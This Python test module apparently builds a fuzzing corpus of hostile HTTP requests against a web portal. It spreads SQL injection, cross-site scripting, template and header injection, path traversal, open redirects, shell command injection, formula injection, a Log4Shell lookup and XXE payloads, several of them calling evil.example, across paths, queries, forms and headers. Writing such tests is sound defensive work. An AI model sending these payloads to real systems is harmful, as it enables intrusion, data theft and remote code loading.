"""Hostile requests, one by one: what is tried against a portal, and where it is put.

Each payload goes into several places, one after another, so that every kind of payload meets every
kind of place. What attacks a protocol rather than a value is a row of its own.
"""

from __future__ import annotations

import json
from typing import NamedTuple
from urllib.parse import quote

from tests.hostile import FORM


class Hostile(NamedTuple):
    """One request."""

    kind: str
    method: str
    path: str  # bytes that are no ASCII as %xx
    query: str = ""
    headers: tuple[tuple[str, str], ...] = ()
    body: bytes = b""
    content_type: str = ""

    @property
    def spelled(self) -> str:
        return f"{self.kind}: {self.method} {self.path[:80]}?{self.query[:80]} {self.headers}"


PAYLOADS: dict[str, tuple[str, ...]] = {
    "sql": (
        "' OR '1'='1",
        "'; DROP TABLE accounts; --",
        '" OR ""="',
        "1 UNION SELECT email, password FROM accounts",
        "') OR 1=1 LIMIT 1 -- -",
        "admin'/*",
        "%' AND 1=0 UNION ALL SELECT NULL, NULL --",
        "1; SELECT pg_sleep(30)",
        "' || (SELECT load_extension('evil.so')) || '",
        "\\'; ATTACH DATABASE '/tmp/evil' AS evil; --",
    ),
    "markup": (
        "<script>alert(1)</script>",
        '"><img src=x onerror=alert(1)>',
        "<svg/onload=alert(1)>",
        "javascript:alert(1)",
        "' autofocus onfocus=alert(1) x='",
        "</title><script src=//evil.example/x.js></script>",
        "<meta http-equiv=refresh content=0;url=//evil.example>",
        '<a href="https://evil.example">Войти</a>',
        "＜script＞alert(1)＜/script＞",
        "<!--#include virtual=/etc/passwd -->",
    ),
    "template": (
        "{{ 12345679 * 9 }}",
        "{% print(12345679 * 9) %}",
        "${12345679 * 9}",
        "#{12345679 * 9}",
        "{{ config.SECRET_KEY }}",
        "%(secret_key)s %s %n %x {0.__class__}",
    ),
    "headers": (
        "x\r\nSet-Cookie: session=evil",
        "x\nX-Injected: 1",
        "x\r\n\r\n<script>alert(1)</script>",
        "x\rX-Injected: 1",
        "x\u2028X-Injected: 1",
        "x\u560a\u560dX-Injected: 1",
        "x\x0bBcc: evil@evil.example",
        "x\x0cTo: evil@evil.example",
    ),
    "paths": (
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "....//....//etc/passwd",
        "%2e%2e%2f%2e%2e%2fconfig.py",
        "/etc/passwd",
        "file:///etc/passwd",
        "..;/admin",
        ".git/config",
        "portal.db",
        "CON",
    ),
    "redirects": (
        "//evil.example",
        "///evil.example/x",
        "https://evil.example",
        "http:evil.example",
        "/\\evil.example",
        "\\\\evil.example",
        "/\t/evil.example",
        "/%0a/evil.example",
        "https:/evil.example",
        "//evil.example%2f@127.0.0.1:8000/",
        "http://127.0.0.1:8000@evil.example/",
        "data:text/html,<script>alert(1)</script>",
    ),
    "formulas": (
        "=cmd|'/c calc'!A1",
        "+1+1",
        "-1-1",
        "@SUM(1)",
        "\t=1+1",
        '=HYPERLINK("https://evil.example","x")',
    ),
    "text": (
        "\x00",
        "a\x00b",
        "\ufeff\u200b\u200e\u202etxt.exe",
        "\U0001f600" * 50,
        "İıſK",
        "e\u0301" * 200,
        "\ud800",
        "ﷺ" * 100,
        "\x7f\x1b]0;evil\x07",
        " \t\n ",
        "А" * 3000,
        "null",
    ),
    "numbers": (
        "-1",
        "0",
        "9223372036854775808",
        "9" * 400,
        "1e309",
        "NaN",
        "0x10",
        "٣",
        "1.5",
        "00000000000000000000",
    ),
    "programs": (
        "; cat /etc/passwd",
        "| id",
        "`id`",
        "$(id)",
        "() { :; }; echo evil",
        "${jndi:ldap://evil.example/a}",
        "__import__('os').system('id')",
        'O:8:"stdClass":0:{}',
        "!!python/object/apply:os.system ['id']",
        "*)(uid=*))(|(uid=*",
    ),
}

# Where a payload is put; {} is it.
PATHS = (
    "/confirm/{}",
    "/confirm-email/{}",
    "/confirmation/{}",
    "/email/{}",
    "/invitation/{}",
    "/password/new/{}",
    "/cancel/{}",
    "/organisations/{}",
    "/organisations/{}/edit",
    "/organisations/{}/journal.csv",
    "/people/{}/role",
    "/people/{}/journal",
    "/campaigns/{}",
    "/campaigns/{}/outcome.csv",
    "/verifications/{}",
    "/verifications/{}/evidence.json",
    "/support/cases/{}",
    "/support/organisations/{}",
    "/language/{}",
    "/help/{}",
    "/static/{}",
    "/inbox/{}",
    "/{}",
)
QUERIES = (
    ("/signin", "next"),
    ("/signin", "invited"),
    ("/check", "back"),
    ("/organisations", "q"),
    ("/organisations", "after"),
    ("/organisations", "status"),
    ("/organisations/ORG-004217", "seen"),
    ("/organisations/ORG-004217", "done"),
    ("/people", "organisation"),
    ("/people", "email"),
    ("/journal", "since"),
    ("/journal", "before"),
    ("/journal.csv", "kind"),
    ("/campaigns", "before"),
    ("/verifications", "after"),
    ("/support/cases", "which"),
    ("/support/cases", "after"),
    ("/support/organisations", "typed"),
    ("/deliveries", "sent"),
    ("/recovery", "seen"),
    ("/devices", "done"),
)
FORMS = (
    ("/signin", "email"),
    ("/signin", "password"),
    ("/signin/factor", "code"),
    ("/signin/passkey", "answer"),
    ("/signin/code", "code"),
    ("/password", "email"),
    ("/password/new", "password"),
    ("/check", "code"),
    ("/diagnostics/measure", "time"),
    ("/recovery", "service"),
    ("/recovery/code", "code"),
    ("/cancel", "token"),
    ("/confirmation/x/code", "code"),
    ("/confirmation/x/report", "comment"),
    ("/organisations/ORG-004217/edit", "name"),
    ("/organisations/ORG-004217/draft", "person"),
    ("/organisations/ORG-004217/corrections", "take"),
    ("/people/new", "email"),
    ("/people/x/role", "role"),
    ("/campaigns", "ids"),
    ("/support/cases/new", "email"),
    ("/support/cases/x/number", "number"),
    ("/support/cases/x/answers", "created"),
    ("/verifications/x/decision", "whole"),
    ("/deliveries/x/again", "id"),
    ("/language/en", "code"),
    ("/signout", "csrf_token"),
)
HEADERS = (
    "Host",
    "Referer",
    "Origin",
    "User-Agent",
    "Accept-Language",
    "Accept-Encoding",
    "Cookie",
    "X-Forwarded-For",
    "X-Forwarded-Host",
    "X-Forwarded-Proto",
    "X-Request-ID",
    "X-Portal-Role",
    "HX-Target",
    "HX-Current-URL",
    "If-None-Match",
    "Range",
    "Authorization",
)


def _bytes(payload: str) -> bytes:
    return payload.encode("utf-8", "surrogatepass")


def _spread() -> list[Hostile]:
    """Every payload in eight places: two of each kind, others for the next payload."""
    made, turn = [], 0
    for kind, payloads in PAYLOADS.items():
        for payload in payloads:
            raw = _bytes(payload)
            spelled = quote(raw, safe="/")
            for again in range(2):
                at = turn * 2 + again
                made.append(Hostile(kind, "GET", PATHS[at % len(PATHS)].format(quote(raw))))
                page, name = QUERIES[at % len(QUERIES)]
                made.append(Hostile(kind, "GET", page, f"{name}={spelled}&{spelled}={name}"))
                page, name = FORMS[at % len(FORMS)]
                body = f"{name}={quote(raw, safe='')}&csrf_token=IjEyMyI.aaaa.bbbb".encode()
                made.append(Hostile(kind, "POST", page, body=body, content_type=FORM))
                header = (HEADERS[at % len(HEADERS)], raw.decode("latin-1"))
                made.append(Hostile(kind, "GET", PATHS[-1].format("signin"), headers=(header,)))
            turn += 1
    return made


def _part(name: str, more: str = "", text: str = "1") -> str:
    return f'--b\r\nContent-Disposition: form-data; name="{name}"{more}\r\n\r\n{text}\r\n'


MULTIPART = "multipart/form-data; boundary=b"
BODIES: tuple[tuple[str, bytes, str], ...] = (
    ("too long", b"code=" + b"1" * 70_000, FORM),
    ("101 fields", b"&".join(b"f%d=" % number for number in range(101)), FORM),
    ("20,000 fields", b"&" * 20_000, FORM),
    ("one name 90 times", b"csrf_token=x&" * 90, FORM),
    ("no Unicode", b"code=%ff%fe%ed%a0%80&\xff=\xfe", FORM),
    ("nothing", b"", FORM),
    ("JSON", json.dumps({"code": "1", "csrf_token": {"$ne": ""}}).encode(), "application/json"),
    ("deep JSON", b"[" * 30_000 + b"]" * 30_000, "application/json"),
    ("XML", b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>', "text/xml"),
    ("plain", b"csrf_token=x", "text/plain"),
    ("no type", b"csrf_token=x", ""),
    ("odd type", b"csrf_token=x", f"{FORM}; charset=utf-7"),
    ("a thousand parts", "".join(_part(f"f{number}") for number in range(500)).encode(), MULTIPART),
    ("a file", (_part("file", '; filename="../../x.csv"') + "--b--").encode(), MULTIPART),
    ("a part without an end", _part("code").encode(), MULTIPART),
    ("no boundary", _part("code").encode(), "multipart/form-data"),
    ("a long boundary", b"--" + b"b" * 5000, "multipart/form-data; boundary=" + "b" * 5000),
    ("a part in base64", _part("a", "\r\nContent-Transfer-Encoding: base64").encode(), MULTIPART),
    ("gzip", b"\x1f\x8b\x08\x00" + b"\x00" * 40, FORM),
)
ASKED_FOR = ("/", "/signin", "/organisations/ORG-004217/edit", "/campaigns", "/access", "/nowhere")
ODD: tuple[tuple[str, str, str, tuple[tuple[str, str], ...]], ...] = (
    *(
        (name, name, "", ())
        for name in ("PUT", "PATCH", "DELETE", "TRACE", "CONNECT", "FOO", "get")
    ),
    ("another method", "POST", "", (("X-HTTP-Method-Override", "DELETE"), ("X-Method", "PUT"))),
    ("another address", "GET", "", (("X-Original-URL", "/inbox"), ("X-Rewrite-URL", "/inbox"))),
    ("another scheme", "GET", "", (("X-Forwarded-Proto", "https"), ("Front-End-Https", "on"))),
    ("another host", "GET", "", (("Host", "evil.example"), ("X-Forwarded-Host", "evil.example"))),
    (
        "another site",
        "POST",
        "",
        (("Origin", "https://evil.example"), ("Sec-Fetch-Site", "cross-site")),
    ),
    ("no site", "POST", "", (("Origin", "null"), ("Referer", ""))),
    ("inside", "GET", "", (("X-Forwarded-For", "10.20.4.17"), ("Forwarded", "for=10.20.4.17"))),
    ("a long address", "GET", "a=" + "1" * 20_000, ()),
    ("many arguments", "GET", "&".join(f"a{number}=1" for number in range(5000)), ()),
    ("deep arguments", "GET", "a" + "[b]" * 500 + "=1", ()),
    ("a long header", "GET", "", (("X-Long", "a" * 50_000),)),
    ("a long cookie", "GET", "", (("Cookie", "session=" + "A" * 20_000),)),
    ("many cookies", "GET", "", (("Cookie", "; ".join(f"session={n}" for n in range(500))),)),
    ("no cookie", "GET", "", (("Cookie", "=;;==;session;\xff=\xff;language=../../x"),)),
    ("htmx", "GET", "", (("HX-Request", "true"), ("HX-Target", "div#../../letters/code"))),
    ("htmx over POST", "POST", "", (("HX-Request", "\xff"), ("HX-Boosted", "%ff"))),
    ("ranges", "GET", "", (("Range", "bytes=" + "0-1," * 500), ("If-Range", "x"))),
    ("dates", "GET", "", (("If-Modified-Since", "Fri, 99 Xxx 99999999 00:00:00 GMT"),)),
    ("encodings", "GET", "", (("Accept-Encoding", "br;q=x, gzip;q=9e999, *;q=-1"),)),
    ("an account", "GET", "", (("Authorization", "Basic \xff"), ("X-Portal-Account", "x"))),
    ("a bearer", "GET", "", (("Authorization", "Bearer eyJhbGciOiJub25lIn0.e30."),)),
)


def _odd() -> list[Hostile]:
    made = [
        Hostile(kind, method, path, query, headers)
        for kind, method, query, headers in ODD
        for path in ASKED_FOR
    ]
    made += [
        Hostile(kind, "POST", path, body=body, content_type=content_type)
        for kind, body, content_type in BODIES
        for path in ASKED_FOR
    ]
    return made


CORPUS: tuple[Hostile, ...] = (*_spread(), *_odd())
